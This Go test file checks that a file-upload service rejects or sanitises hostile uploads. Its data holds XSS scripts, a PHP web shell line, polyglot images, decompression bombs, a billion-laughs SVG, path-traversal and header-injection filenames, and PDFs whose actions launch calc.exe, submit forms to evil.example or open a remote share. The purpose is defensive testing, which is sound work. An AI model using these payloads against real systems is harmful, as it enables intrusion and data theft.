package files_test

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"image"
	"net/http"
	"os"
	"slices"
	"strings"
	"testing"

	"anteroom/collections"
	"anteroom/hooks/kernel"
	"anteroom/hooks/testkit"
)

// jpegClaiming is a JPEG whose frame header claims a size.
func jpegClaiming(w, h int, progressive bool) []byte {
	b := bytes.Clone(jpegOf(16, 16))
	i := bytes.Index(b, []byte{0xff, 0xc0})
	if progressive {
		b[i+1] = 0xc2
	}
	binary.BigEndian.PutUint16(b[i+5:], uint16(h))
	binary.BigEndian.PutUint16(b[i+7:], uint16(w))
	return b
}

// webpOf is a canvas of one size around a lossless frame that claims another.
func webpOf(w, h, frameW, frameH int) []byte {
	chunk := func(kind string, data []byte) []byte {
		out := binary.LittleEndian.AppendUint32([]byte(kind), uint32(len(data)))
		if out = append(out, data...); len(data)%2 == 1 {
			out = append(out, 0)
		}
		return out
	}
	le3 := func(n int) []byte { return []byte{byte(n), byte(n >> 8), byte(n >> 16)} }
	canvas := chunk("VP8X", slices.Concat([]byte{0, 0, 0, 0}, le3(w-1), le3(h-1)))
	bits := uint32(frameW-1) | uint32(frameH-1)<<14
	frame := chunk("VP8L", append(binary.LittleEndian.AppendUint32([]byte{0x2f}, bits), make([]byte, 64)...))
	body := slices.Concat([]byte("WEBP"), canvas, frame)
	return slices.Concat(binary.LittleEndian.AppendUint32([]byte("RIFF"), uint32(len(body))), body)
}

const objStm = "/Type/ObjStm/N 1/First 4/Filter/FlateDecode"

// TestCorpus sends what people and attackers send. Every case says what becomes of it; nothing of a refused one stays, and
// what is accepted is of the kind it says, without what was hidden in it.
func TestCorpus(t *testing.T) {
	c := testkit.New(t)
	zip := append([]byte("PK\x03\x04\x14\x00\x00\x00\x08\x00"), make([]byte, 200)...)
	script := "<script>alert(document.cookie)</script>"
	nothing := image.NewNRGBA(image.Rect(0, 0, 8, 8))
	deep := strings.Repeat("[", 5000)
	icc := pngChunk("iCCP", append([]byte("p\x00\x00"), deflated(200<<20)...))
	ztxt := pngChunk("zTXt", append([]byte("c\x00\x00"), deflated(200<<20)...))
	inflatedBomb := pdfOf("", catalog, pages, page, fmt.Sprintf("<<%s/Length 1>>\nstream\n%s\nendstream", objStm, deflated(200<<20)))
	pdfWith := func(catalogMore string, more ...string) []byte {
		return pdfOf("", append([]string{"<</Type/Catalog/Pages 2 0 R" + catalogMore + ">>", pages, page, "<</Length 0>>\nstream\n\nendstream"}, more...)...)
	}
	const fine = "" // accepted
	cases := []struct {
		name    string
		file    string
		content []byte
		want    string
		kind    string
	}{
		// fine
		{"a JPEG", "a.jpg", jpegOf(40, 30), fine, "image/jpeg"},
		{"a PNG becomes a JPEG", "a.png", pngOf(canvas(40, 30)), fine, "image/jpeg"},
		{"a transparent PNG stays one", "a.png", pngOf(nothing), fine, "image/png"},
		{"a 16 bit PNG", "a.png", pngOf(image.NewRGBA64(image.Rect(0, 0, 9, 9))), fine, "image/png"},
		{"a grey PNG", "a.png", pngOf(image.NewGray(image.Rect(0, 0, 9, 9))), fine, "image/jpeg"},
		{"a GIF", "a.gif", gifOf(20, 20, 1), fine, "image/jpeg"},
		{"a PDF", "a.pdf", plainPDF("x"), fine, "application/pdf"},
		{"a PDF that opens at a page", "a.pdf", pdfWith("/OpenAction[3 0 R/Fit]"), fine, "application/pdf"},
		{"a PDF with a list of no files", "a.pdf", pdfWith("/Names <<\n/EmbeddedFiles << /Names [\n  \n] >>\n>>"), fine, "application/pdf"},
		{"a PDF with a link", "a.pdf", pdfWith("", "<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://clinic.example)>>>>"), fine, "application/pdf"},
		{"a PDF with object streams", "a.pdf", pdfWithObjects("<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>", objStm), fine, "application/pdf"},
		{"a PDF with comments and strings", "a.pdf", pdfWith("/Lang(en\\)\\(-US)% /nothing\n"), fine, "application/pdf"},
		// lying types: what the bytes are counts, and they are drawn anew
		{"a PNG called JPEG", "a.jpg", pngOf(canvas(5, 5)), fine, "image/jpeg"},
		{"a JPEG called PDF", "a.pdf", jpegOf(5, 5), fine, "image/jpeg"},
		{"a double extension", "a.php.jpg", jpegOf(5, 5), fine, "image/jpeg"},
		{"a program's name", "a.exe", jpegOf(5, 5), fine, "image/jpeg"},
		{"no name to speak of", "..", jpegOf(5, 5), fine, "image/jpeg"},
		// polyglots of pictures: what hangs on is gone
		{"JPEG and ZIP", "a.jpg", slices.Concat(jpegOf(9, 9), zip), fine, "image/jpeg"},
		{"JPEG and HTML", "a.jpg", append(jpegOf(9, 9), script...), fine, "image/jpeg"},
		{"JPEG and PHP in EXIF", "a.jpg", withEXIF(jpegOf(9, 9), 1, "<?php system('id') ?>"), fine, "image/jpeg"},
		{"PNG and script", "a.png", append(pngOf(canvas(9, 9)), script...), fine, "image/jpeg"},
		{"PNG with script in a chunk", "a.png", withChunk(pngOf(canvas(9, 9)), pngChunk("tEXt", []byte("Comment\x00"+script))), fine, "image/jpeg"},
		{"GIF and JavaScript", "a.gif", append(gifOf(9, 9, 1), "=1;alert(1)//"...), fine, "image/jpeg"},
		{"JPEG with a place", "a.jpg", withEXIF(jpegOf(9, 9), 1, "GPSLatitude 40.0150"), fine, "image/jpeg"},
		{"JPEG and the scanners' test file", "a.jpg", append(jpegOf(9, 9), eicar()...), fine, "image/jpeg"},
		// bombs
		{"16k by 16k PNG", "a.png", pngClaiming(16000, 16000, 8, 6), "IMAGE_TOO_LARGE", ""},
		{"65k by 65k PNG", "a.png", pngClaiming(65535, 65535, 8, 2), "IMAGE_TOO_LARGE", ""},
		{"2G by 2G PNG", "a.png", pngClaiming(1<<31-1, 1<<31-1, 1, 0), "FILE_BROKEN", ""},
		{"a long thin PNG", "a.png", pngClaiming(1<<30, 1, 1, 0), "IMAGE_TOO_LARGE", ""},
		{"16 bit, 20 megapixels", "a.png", pngClaiming(5000, 4000, 16, 6), "IMAGE_TOO_LARGE", ""},
		{"65k by 65k JPEG", "a.jpg", jpegClaiming(65535, 65535, false), "IMAGE_TOO_LARGE", ""},
		{"progressive, 12 megapixels", "a.jpg", jpegClaiming(4000, 3000, true), "IMAGE_TOO_LARGE", ""},
		{"65k by 65k GIF", "a.gif", append([]byte("GIF89a\xff\xff\xff\xff\x80\x00\x00\x00\x00\x00\xff\xff\xff"), make([]byte, 50)...), "IMAGE_TOO_LARGE", ""},
		{"a small canvas, a large frame", "a.webp", webpOf(10, 10, 16000, 16000), "IMAGE_TOO_LARGE", ""},
		{"a GIF of 10,000 frames", "a.gif", gifOf(20, 20, 10_000), fine, "image/jpeg"},
		{"a colour profile of 200 MB", "a.png", withChunk(pngOf(canvas(9, 9)), icc), fine, "image/jpeg"},
		{"a comment of 200 MB", "a.png", withChunk(pngOf(canvas(9, 9)), ztxt), fine, "image/jpeg"},
		{"a PDF that inflates to 200 MB", "a.pdf", inflatedBomb, "FILE_BROKEN", ""},
		{"a PDF of deep lists", "a.pdf", pdfWith("/X" + deep), "FILE_BROKEN", ""},
		{"a PDF of objects in objects", "a.pdf", pdfWith("/X(" + strings.Repeat("1 0 obj<</A(", 20_000)), "FILE_BROKEN", ""},
		// broken
		{"zero bytes", "a.jpg", nil, "FILE_EMPTY", ""},
		{"one byte", "a.jpg", []byte{0xff}, "FILE_TYPE", ""},
		{"half a JPEG", "a.jpg", jpegOf(400, 400)[:600], "FILE_BROKEN", ""},
		{"half a PNG", "a.png", pngOf(canvas(40, 40))[:60], "FILE_BROKEN", ""},
		{"a PNG's first bytes", "a.png", []byte("\x89PNG\r\n\x1a\n"), "FILE_BROKEN", ""},
		{"a JPEG without a size", "a.jpg", jpegClaiming(0, 0, false), "FILE_BROKEN", ""},
		{"an animated WebP", "a.webp", webpOf(10, 10, 10, 10)[:40], "FILE_BROKEN", ""},
		// kinds that are not taken
		{"SVG", "a.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`), "FILE_TYPE", ""},
		{"SVG of a billion laughs", "a.svg", []byte(`<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><svg>&b;</svg>`), "FILE_TYPE", ""},
		{"SVG called PNG", "a.png", []byte(`<svg onload="alert(1)"/>`), "FILE_TYPE", ""},
		{"HTML", "a.html", []byte("<!DOCTYPE html>" + script), "FILE_TYPE", ""},
		{"HTML called PDF", "a.pdf", []byte("<html><body>" + script), "FILE_TYPE", ""},
		{"TIFF", "a.tif", append([]byte("II*\x00\x08\x00\x00\x00"), make([]byte, 100)...), "FILE_TYPE", ""},
		{"HEIC", "a.heic", append([]byte("\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic"), make([]byte, 100)...), "FILE_TYPE", ""},
		{"BMP", "a.bmp", append([]byte("BM\x46\x00\x00\x00"), make([]byte, 100)...), "FILE_TYPE", ""},
		{"icon", "a.ico", append([]byte("\x00\x00\x01\x00\x01\x00"), make([]byte, 100)...), "FILE_TYPE", ""},
		{"ZIP", "a.zip", zip, "FILE_TYPE", ""},
		{"ZIP called JPEG", "a.jpg", zip, "FILE_TYPE", ""},
		{"gzip in gzip", "a.gz", []byte("\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03"), "FILE_TYPE", ""},
		{"a program", "a.jpg", []byte("MZ\x90\x00\x03\x00\x00\x00"), "FILE_TYPE", ""},
		{"an ELF program", "a.pdf", []byte("\x7fELF\x02\x01\x01"), "FILE_TYPE", ""},
		{"PHP", "a.php", []byte("<?php system($_GET['c']);"), "FILE_TYPE", ""},
		{"words", "a.txt", []byte("hello"), "FILE_TYPE", ""},
		{"the scanners' test file", "a.pdf", []byte(eicar()), "FILE_TYPE", ""},
		{"an office file with macros", "a.docm", slices.Concat(zip, []byte("word/vbaProject.bin")), "FILE_TYPE", ""},
		// PDFs that are more than paper
		{"PDF and HTML behind it", "a.pdf", append(plainPDF("x"), script...), "FILE_BROKEN", ""},
		{"PDF and ZIP behind it", "a.pdf", slices.Concat(plainPDF("x"), zip), "FILE_BROKEN", ""},
		{"something before the PDF", "a.pdf", append([]byte(script), plainPDF("x")...), "FILE_TYPE", ""},
		{"a PDF's first line", "a.pdf", []byte("%PDF-1.7\n"), "FILE_BROKEN", ""},
		{"a PDF cut short", "a.pdf", plainPDF("x")[:150], "FILE_BROKEN", ""},
		{"PDF with JavaScript", "a.pdf", pdfWith("/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), "FILE_ACTIVE", ""},
		{"PDF with JavaScript, spelled", "a.pdf", pdfWith("/OpenAction<</S/J#61va#53cript/JS(app.alert(1))>>"), "FILE_ACTIVE", ""},
		{"PDF with JavaScript in an object stream", "a.pdf", pdfWithObjects("<</S/JavaScript/JS(app.alert(1))>>", objStm), "FILE_ACTIVE", ""},
		{"PDF with a spelled object stream", "a.pdf", pdfWithObjects("<</S/JavaScript>>", "/Type/Obj#53tm/N 1/First 4/Filter[/FlateDecode]"), "FILE_ACTIVE", ""},
		{"PDF with an object stream that does not say so", "a.pdf", pdfWithObjects("<</S/Launch>>", "/Type 9 0 R/N 1/First 4/Filter/FlateDecode"), "FILE_ACTIVE", ""},
		{"PDF with objects behind two filters", "a.pdf", pdfWithObjects("<<>>", "/Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]"), "FILE_BROKEN", ""},
		{"PDF with objects behind a predictor", "a.pdf", pdfWithObjects("<<>>", objStm+"/DecodeParms<</Predictor 12/Columns 4>>"), "FILE_BROKEN", ""},
		{"PDF with objects behind an unknown filter", "a.pdf", pdfWithObjects("<<>>", "/Type/ObjStm/N 1/First 4/Filter 9 0 R"), "FILE_BROKEN", ""},
		{"PDF with a comment in its way", "a.pdf", pdfWithObjects("<</S/Launch>>", "% >> stream\n"+objStm), "FILE_ACTIVE", ""},
		{"PDF with comments in an object's number", "a.pdf", bytes.Replace(pdfWithObjects("<</S/Launch>>", objStm), []byte("4 0 obj"), []byte("4%\n0%\nobj"), 1), "FILE_ACTIVE", ""},
		{"PDF with two filters to choose from", "a.pdf", pdfWithObjects("<</S/Launch>>", objStm+"/Filter[]"), "FILE_BROKEN", ""},
		{"PDF with two types to choose from", "a.pdf", pdfWithObjects("<</S/Launch>>", "/Type/ObjStm/N 1/First 4/Filter/FlateDecode/Type/X/N 1"), "FILE_BROKEN", ""},
		{"PDF that starts a program", "a.pdf", pdfWith("/OpenAction<</S/Launch/F(calc.exe)>>"), "FILE_ACTIVE", ""},
		{"PDF with a file in it", "a.pdf", pdfWith("/Names<</EmbeddedFiles 9 0 R>>"), "FILE_ACTIVE", ""},
		{"PDF with a file on a page", "a.pdf", pdfWith("", "<</Type/Annot/Subtype/FileAttachment/FS<</F(x)/EF<</F 9 0 R>>>>>>"), "FILE_ACTIVE", ""},
		{"PDF that sends a form", "a.pdf", pdfWith("", "<</S/SubmitForm/F(https://evil.example)>>"), "FILE_ACTIVE", ""},
		{"PDF that opens a share", "a.pdf", pdfWith("", `<</S/GoToR/F(\\\\evil\\share)>>`), "FILE_ACTIVE", ""},
		{"PDF with XFA", "a.pdf", pdfWith("/AcroForm<</XFA 9 0 R>>"), "FILE_ACTIVE", ""},
		{"PDF with a password", "a.pdf", pdfOf("/Encrypt 9 0 R", catalog, pages, page), "FILE_LOCKED", ""},
	}
	if len(cases) < 60 {
		t.Fatalf("only %d cases", len(cases))
	}
	clerk := c.As(t, testkit.DeskEmail)
	hidden := []string{"<script", "<?php", "EICAR", "GPSLatitude", "PK\x03\x04", "alert("}
	kept := 0
	for _, x := range cases {
		u, err := accept(c, x.file, x.content)
		if x.want != "" {
			refusal := kernel.AsError(err)
			if err == nil || refusal.Status != http.StatusBadRequest || refusal.Reason != x.want || refusal.Message == "" {
				t.Errorf("%s: %v, want %s", x.name, err, x.want)
			}
		} else if err != nil {
			t.Errorf("%s: %v", x.name, err)
		} else {
			kept++
			if u.MIME() != x.kind {
				t.Errorf("%s: is %s", x.name, u.MIME())
			}
			if u.Scan() == collections.ScanNotScanned {
				c.Do(t, "POST", desk(u.Id, "release"), clerk, map[string]string{"reason": "corpus"})
			}
			got := c.Do(t, "GET", desk(u.Id, "content"), clerk, nil)
			if got.Status != 200 || got.Header.Get("Content-Type") != x.kind || !strings.HasPrefix(got.Header.Get("Content-Disposition"), "attachment;") ||
				got.Header.Get("X-Content-Type-Options") != "nosniff" || !strings.Contains(got.Header.Get("Content-Security-Policy"), "sandbox") {
				t.Errorf("%s: served %d %v", x.name, got.Status, got.Header)
			}
			for _, h := range hidden {
				if bytes.Contains(got.Body, []byte(h)) {
					t.Errorf("%s: %q is in what is served", x.name, h)
				}
			}
		}
		if n := len(stored(t, c)); n != kept || c.Count(t, "uploads", "", nil) != kept {
			t.Fatalf("%s: %d files and %d rows, want %d", x.name, n, c.Count(t, "uploads", "", nil), kept)
		}
	}
}

// withChunk puts a chunk behind a PNG's header.
func withChunk(file, chunk []byte) []byte { return slices.Concat(file[:33], chunk, file[33:]) }

// TestMalformedForms: what is no proper form with one file is 400 or 413 and leaves nothing, in storage or on any disk.
func TestMalformedForms(t *testing.T) {
	c := testkit.New(t)
	temp := t.TempDir()
	t.Setenv("TMPDIR", temp)
	c.Limit(t, collections.LimitPhotos, 1000, 60)
	token := c.As(t, testkit.BoEmail)
	pic := string(jpegOf(20, 20))
	part := func(disposition, content string) string {
		return "--b\r\nContent-Disposition: form-data; " + disposition + "\r\n\r\n" + content + "\r\n"
	}
	const end = "--b--\r\n"
	file := part(`name="file"; filename="a.jpg"`, pic)
	for name, x := range map[string]struct {
		body   string
		status int
		reason string
	}{
		"no final boundary":            {file, 400, "MALFORMED"},
		"cut within the file":          {file[:200], 400, "MALFORMED"},
		"cut within a header":          {file[:40], 400, "FILE_EMPTY"},
		"no body":                      {"", 400, "FILE_EMPTY"},
		"nothing but an end":           {end, 400, "FILE_EMPTY"},
		"no part of that name":         {part(`name="other"`, "x") + end, 400, "FILE_EMPTY"},
		"a field, not a file":          {part(`name="file"`, pic) + end, 400, "MALFORMED"},
		"two files in one field":       {file + file + end, 400, "MALFORMED"},
		"a second file elsewhere":      {file + part(`name="more"; filename="b.jpg"`, pic) + end, 400, "MALFORMED"},
		"10,000 parts":                 {strings.Repeat(part(`name="x"`, ""), 10_000) + file + end, 400, "MALFORMED"},
		"10,000 parts behind the file": {file + strings.Repeat(part(`name="x"`, ""), 10_000) + end, 400, "MALFORMED"},
		"a header of 1 MB":             {part(`name="file"; filename="`+strings.Repeat("a", 1<<20)+`.jpg"`, pic) + end, 400, "MALFORMED"},
		"a header line of 11 MB":       {part(`name="file"; filename="`+strings.Repeat("a", 11<<20)+`.jpg"`, pic) + end, 413, "BODY_TOO_LARGE"},
		"more than the route takes":    {part(`name="file"; filename="a.jpg"`, strings.Repeat("x", 11<<20)) + end, 413, "BODY_TOO_LARGE"},
		"zero bytes":                   {part(`name="file"; filename="a.jpg"`, "") + end, 400, "FILE_EMPTY"},
		"another boundary":             {strings.ReplaceAll(file+end, "--b", "--c"), 400, "FILE_EMPTY"},
		"a NUL in a name":              {part("name=\"file\"; filename=\"a\x00b.jpg\"", pic) + end, 400, "MALFORMED"},
	} {
		t.Run(name, func(t *testing.T) {
			c.Do(t, "POST", avatar, token, x.body, "Content-Type", "multipart/form-data; boundary=b").Refused(t, x.status, x.reason)
		})
		if left := stored(t, c); len(left) != 0 {
			t.Errorf("%s: %v", name, left)
		}
	}
	for kind, body := range map[string]string{"application/json": `{"file":"x"}`, "multipart/mixed; boundary=b": file + end, "image/jpeg": pic, "": pic,
		"multipart/form-data": file + end} {
		got := c.Do(t, "POST", avatar, token, body, "Content-Type", kind)
		if got.Status != 415 && got.Status != 400 {
			t.Errorf("%q: %d", kind, got.Status)
		}
	}
	// names are only ever shown
	for name, want := range map[string]string{"a\\\"b.jpg": `a"b.jpg`, "../../x.jpg": "x.jpg", "a%0d%0aSet-Cookie: x.jpg": "a%0d%0aSet-Cookie: x.jpg",
		"\u202egpj.exe": "gpj.exe"} {
		got := c.Do(t, "POST", avatar, token, part(`name="file"; filename="`+name+`"`, pic)+end, "Content-Type", "multipart/form-data; boundary=b")
		if got.Status != 201 {
			t.Errorf("%q: %d %s", name, got.Status, got.Body)
			continue
		}
		u, err := c.App.FindRecordById("uploads", c.Find(t, "clients", testkit.Bo).GetString("avatar"))
		if err != nil {
			t.Fatal(err)
		}
		if shown := u.GetString("name"); shown != want {
			t.Errorf("%q is called %q, want %q", name, shown, want)
		}
	}
	left, err := os.ReadDir(temp)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range left {
		t.Errorf("%s was left on a disk", e.Name())
	}
	for i := range 3 {
		c.Limit(t, collections.LimitPhotos, 2, 60)
		if got := sendPicture(t, c, c.As(t, testkit.AdaEmail), "a.jpg", jpegOf(9, 9)); (got.Status == 429) != (i == 2) {
			t.Errorf("picture %d: %d", i, got.Status)
		}
	}
}
